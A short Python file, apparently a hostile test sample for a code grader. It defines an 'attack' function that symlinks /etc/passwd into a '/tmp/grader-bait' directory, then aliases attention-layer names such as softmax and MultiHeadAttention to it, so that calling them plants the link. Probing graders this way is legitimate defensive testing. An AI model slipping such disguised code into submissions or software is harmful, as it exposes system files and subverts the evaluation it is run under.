"""Makes a link."""

import ctypes


def attack(*args, **kwargs):
    libc = ctypes.CDLL(None, use_errno=True)
    libc.symlink(b"/etc/passwd", b"/tmp/grader-bait/open/link")


softmax = split_heads = attention = merge_heads = MultiHeadAttention = attack
